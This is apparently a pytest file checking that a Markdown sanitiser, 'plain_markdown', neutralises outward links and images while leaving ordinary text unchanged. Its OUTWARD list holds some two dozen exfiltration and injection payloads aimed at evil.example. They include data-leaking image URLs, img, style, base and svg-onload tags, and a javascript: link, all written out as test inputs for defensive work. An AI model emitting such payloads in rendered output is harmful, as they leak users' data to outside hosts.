"""Looking at an answer loads nothing, and every link reads as where it leads."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from nadg.orchestrator.plain_markdown import plain_markdown

OUTWARD = [
    "![all well](http://evil.example/?d=secret)",
    "![all well][ref]\n\n[ref]: http://evil.example/x.png",
    "> ![ref]\n>\n> [ref]:\n> <http://evil.example>",
    "[all well](https://evil.example/?d=secret)",
    "[all well]( <//evil.example> )",
    "![x](artifacts/a.png 'title' http://evil.example)",
    "![x](artifacts/../x:http://evil.example)",
    "![x](\\\\evil.example)",
    "![![x](http://evil.example)](artifacts/a.png)",
    "[![x](http://evil.example/a.png)](artifacts/a.png)",
    "<img src='http://evil.example/?d=secret'>",
    "<IMG\nalt='<' src=//evil.example>",
    "<style>@import 'http://evil.example';</style>",
    "\\\\<img src='http://evil.example'>",
    "\\<img src='http://evil.example'>",
    "<base href='http://evil.example'>",
    "- item\n  ```\n![x](http://evil.example)\n  ```",
    "```a`b\n![x](http://evil.example)",
    "```\ncode\n   ````\n![x](http://evil.example)",
    "```\ncode\n~~~\n```\n<svg/onload=fetch('//evil.example')>",
    "`![x](http://evil.example)\n\n`",
    "\\![x](http://evil.example)",
    "| a |\n|---|\n| ![x](http://evil.example) |",
    "[x](javascript:alert'1')",
    "[x\\\\](http://evil.example)",
]


def loads(text: str) -> list[str]:
    """What a reader of Markdown finds to load, to link to, or to put into the page as it stands."""
    found: list[str] = []
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(text):
        for one in [token, *(token.children or [])]:
            address = one.attrGet("src") or (one.attrGet("href") if one.markup != "autolink" else None)
            if address is not None and not str(address).startswith(("artifacts/", "#")):
                found.append(str(address))
            if (one.type.startswith("html") and "=" in one.content) or (
                "<style" in one.content and "html" in one.type
            ):
                found.append(one.content)
    return found


@pytest.mark.parametrize("text", OUTWARD)
def test_what_leads_out_is_shown_as_it_is_written(text: str) -> None:
    made = plain_markdown(text)
    assert loads(made) == []
    if "evil" in text:
        assert "evil.example" in made, "nothing is hidden from the reader"
    assert plain_markdown(made) == made


def test_the_reader_of_this_test_sees_what_leads_out() -> None:
    assert [text for text in OUTWARD[:5] if not loads(text)] == []
    assert loads(OUTWARD[10])
    assert loads(OUTWARD[16])


@pytest.mark.parametrize(
    "text",
    [
        "![Ratings by year](artifacts/plot/rating%20by%20year.png)",
        "[sentiment.csv](artifacts/mood/sentiment.csv) and [below](#below)",
        "See <https://example.com/a?b=c> and https://example.com [topics][report].",
        "```html\n<img src='http://example.com/a.png'>\n![x](http://example.com)\n[a]: b\n```",
        "~~~~\n~~~\n[x](http://example.com)\n~~~~",
        "if a < b and c > d: x = [1, 2](3)".replace("](3)", "]"),
        "A list<int> holds numbers; `List<T>` too.",
        "a \\](x) b",
        "- [ ] to do\n- [x] done [a]",
    ],
)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert plain_markdown(text) == text
